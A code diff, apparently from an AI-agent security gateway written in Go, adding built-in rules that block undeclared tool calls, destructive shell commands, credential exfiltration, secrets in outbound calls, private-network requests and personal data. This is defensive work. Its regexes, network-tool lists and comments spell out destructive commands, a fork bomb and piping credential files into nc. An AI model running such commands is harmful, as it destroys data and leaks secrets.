@@ -1,18 +1,71 @@
 package engine
 
+import "strings"
+
+// credentialFileRegex matches a credential file name in a command.
+const credentialFileRegex = `(\.(env|pem|key)|credentials)\b`
+
+// rmRecursiveForceRegex matches an rm argv with a recursive flag, a force
+// flag (separate or combined, as in -rf or -fr), and an absolute or home
+// path, in any order.
+var rmRecursiveForceRegex = argvAnyOrder(
+	`(-[a-zA-Z]*[rR][a-zA-Z]*|--recursive)`,
+	`(-[a-zA-Z]*f[a-zA-Z]*|--force)`,
+	`(/|~|\$HOME|\$\{HOME\})\S*`,
+) + "|" + argvAnyOrder(
+	`-[a-zA-Z]*([rR][a-zA-Z]*f|f[a-zA-Z]*[rR])[a-zA-Z]*`,
+	`(/|~|\$HOME|\$\{HOME\})\S*`,
+)
+
+// argvAnyOrder returns an argv_regex matching a joined argv in which each
+// pattern matches a whole, distinct argument after argv[0], in any order.
+// RE2 has no lookahead, so every ordering is spelled out.
+func argvAnyOrder(patterns ...string) string {
+	var alts []string
+	var permute func(rest []string, seq string)
+	permute = func(rest []string, seq string) {
+		if len(rest) == 0 {
+			alts = append(alts, seq+`(\s|$)`)
+			return
+		}
+		for i := range rest {
+			next := append(append([]string{}, rest[:i]...), rest[i+1:]...)
+			permute(next, seq+`(\s\S+)*\s`+rest[i])
+		}
+	}
+	permute(patterns, "")
+	return `^\S+(` + strings.Join(alts, "|") + `)`
+}
+
 // builtinRules returns all built-in security rules.
 // These are always loaded and can be individually toggled on/off
 // via the "builtin" section in rules.yaml.
 //
 // Built-in rules cover the common attack patterns from design doc Section 6.2:
+//   - Calls to tools the request never declared (hallucinated or injected)
 //   - File system access to sensitive paths (SSH keys, .env, credentials)
 //   - Destructive commands (rm -rf /, mkfs, dd)
 //   - Credential exfiltration via network tools
+//   - Secrets (API keys, tokens) in outbound tool calls
+//   - Requests to the local host, private network, or cloud metadata (SSRF)
+//   - Personal data in outbound tool calls (redacted, off by default)
 //   - Privacy/surveillance (camera, screen recording, location)
 //   - Messaging admin actions (kick, ban, timeout)
 //   - Gateway/config modification
 func builtinRules() []Rule {
 	return []Rule{
+		// --- Tool declarations ---
+		// The model can only have been offered the tools in the request.
+		// A call to any other tool was hallucinated, or injected into the
+		// response on its way back; either way no agent asked for it.
+		{
+			Name:    "block_undeclared_tools",
+			Match:   RuleMatch{UndeclaredTool: &matchTrue},
+			Action:  "block",
+			Message: "Call to a tool the request did not declare blocked",
+			Builtin: true,
+		},
+
 		// --- File system rules ---
 		{
 			Name:    "block_ssh_private_keys",
@@ -97,22 +150,87 @@ func builtinRules() []Rule {
 		},
 
 		// --- Destructive command rules ---
+		// Matched on the parsed command (see shell.go), so quoting tricks,
+		// split flags (rm -r -f), wrappers (sudo, bash -c), pipelines, and
+		// base64/hex payloads don't get around them. The fork bomb has no
+		// argv to speak of and stays a raw regex.
 		{
-			Name:    "block_destructive_commands",
-			Match:   RuleMatch{Tool: stringOrList{"exec"}, CommandRegex: `rm\s+-rf\s+/|mkfs|dd\s+if=|:\(\)\{\s*:\|:&\s*\};:`},
+			Name: "block_destructive_commands",
+			Match: RuleMatch{Tool: stringOrList{"exec"}, Any: []RuleMatch{
+				// rm, recursive and forced, on an absolute or home path — all
+				// three on the same rm, so `rm -rf build; rm /tmp/x` passes.
+				{Binary: stringOrList{"rm"}, ArgvRegex: rmRecursiveForceRegex},
+				{Binary: stringOrList{"mkfs", "mkfs.*"}},
+				{Binary: stringOrList{"dd"}, ArgvRegex: `\sif=`},
+				{CommandRegex: `:\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:`},
+			}},
 			Action:  "block",
 			Message: "Destructive command blocked",
 			Builtin: true,
 		},
 
 		// --- Credential exfiltration ---
+		// A network tool given a credential file, or a credential file
+		// piped straight into one — `cat .env | nc host 80` counts, an
+		// unrelated `cat .env; curl example.com` doesn't.
 		{
-			Name:    "block_exfiltration",
-			Match:   RuleMatch{Tool: stringOrList{"exec"}, CommandRegex: `(curl|wget|nc|ncat).*\.(env|pem|key|credentials)`},
+			Name: "block_exfiltration",
+			Match: RuleMatch{Tool: stringOrList{"exec"}, Any: []RuleMatch{
+				{
+					Binary:    stringOrList{"curl", "wget", "nc", "ncat", "netcat", "socat", "scp", "sftp", "rsync", "ftp"},
+					ArgvRegex: credentialFileRegex,
+				},
+				{CommandRegex: credentialFileRegex + `[^|;&]*\|\s*(sudo\s+)?(\S*/)?(curl|wget|nc|ncat|netcat|socat|scp|sftp|rsync|ftp)\b`},
+			}},
 			Action:  "block",
 			Message: "Credential exfiltration attempt blocked",
 			Builtin: true,
 		},
+		{
+			// Credentials pasted into an outbound call: a URL, a message,
+			// or a command line that runs a network tool. Pattern detectors
+			// only — random-looking URL tokens are too common for
+			// high_entropy to be on by default.
+			Name: "block_secret_exfiltration",
+			Match: RuleMatch{Any: []RuleMatch{
+				{Tool: stringOrList{"web_fetch", "message"}, ContainsSecret: outboundSecretDetectors},
+				{
+					Tool:           stringOrList{"exec"},
+					Binary:         stringOrList{"curl", "wget", "nc", "ncat", "netcat", "socat", "scp", "sftp", "rsync", "ftp"},
+					ContainsSecret: outboundSecretDetectors,
+				},
+			}},
+			Action:  "block",
+			Message: "Secret in outbound tool call blocked",
+			Builtin: true,
+		},
+
+		// --- Private network (SSRF) ---
+		// Fetches, browser navigation, and URLs in commands aimed at the
+		// local host, the private network, or a cloud metadata endpoint,
+		// however the address is encoded. file:// URLs read local files.
+		{
+			Name: "block_private_network",
+			Match: RuleMatch{Any: []RuleMatch{
+				{Tool: stringOrList{"web_fetch", "browser", "exec"}, URLPrivate: &matchTrue},
+				{Tool: stringOrList{"web_fetch", "browser"}, URLScheme: stringOrList{"file"}},
+			}},
+			Action:  "block",
+			Message: "Request to a private network address blocked",
+			Builtin: true,
+		},
+
+		// --- Personal data ---
+		// Off by default: compliance-driven, and phone and email patterns
+		// do turn up in ordinary traffic. Redacts rather than blocks, so
+		// the rest of the call still goes through.
+		{
+			Name:    "redact_outbound_pii",
+			Match:   RuleMatch{Tool: stringOrList{"message", "web_fetch", "sessions_send"}, ContainsPII: detectorSelector{allDetectors}},
+			Action:  "redact",
+			Message: "Personal data redacted from outbound tool call",
+			Builtin: true,
+		},
 
 		// --- Privacy / surveillance rules ---
 		// These match on the "nodes" tool with specific action values.
@@ -239,10 +357,13 @@ func builtinRules() []Rule {
 	}
 }
 
-// defaultBuiltinToggles returns the default enable/disable state for each
+// DefaultBuiltinToggles returns the default enable/disable state for each
 // built-in rule. Matches design doc Section 6.2 exactly.
-func defaultBuiltinToggles() map[string]bool {
+func DefaultBuiltinToggles() map[string]bool {
 	return map[string]bool{
+		// Tool declarations — on by default.
+		"block_undeclared_tools": true,
+
 		// File system — all on by default.
 		"block_ssh_private_keys":  true,
 		"block_env_files":         true,
@@ -256,6 +377,13 @@ func defaultBuiltinToggles() map[string]bool {
 		// Destructive commands — on by default.
 		"block_destructive_commands": true,
 		"block_exfiltration":         true,
+		"block_secret_exfiltration":  true,
+
+		// Private network — on by default.
+		"block_private_network": true,
+
+		// Personal data — off by default.
+		"redact_outbound_pii": false,
 
 		// Privacy/surveillance — on by default.
 		"block_camera":        true,
@@ -283,6 +411,16 @@ func defaultBuiltinToggles() map[string]bool {
 	}
 }
 
+// matchTrue is the address of true, for *bool match fields.
+var matchTrue = true
+
+// outboundSecretDetectors are the detectors block_secret_exfiltration
+// uses: every pattern detector, without high_entropy.
+var outboundSecretDetectors = detectorSelector{
+	SecretAWSAccessKey, SecretGitHubToken, SecretGitLabToken, SecretSlackToken,
+	SecretAnthropicKey, SecretOpenAIKey, SecretJWT, SecretPrivateKey,
+}
+
 // GetAllBuiltinRules returns all built-in rules (exported for use in header_rules.go).
 // This is a public wrapper around the private builtinRules() function.
 func GetAllBuiltinRules() ([]Rule, error) {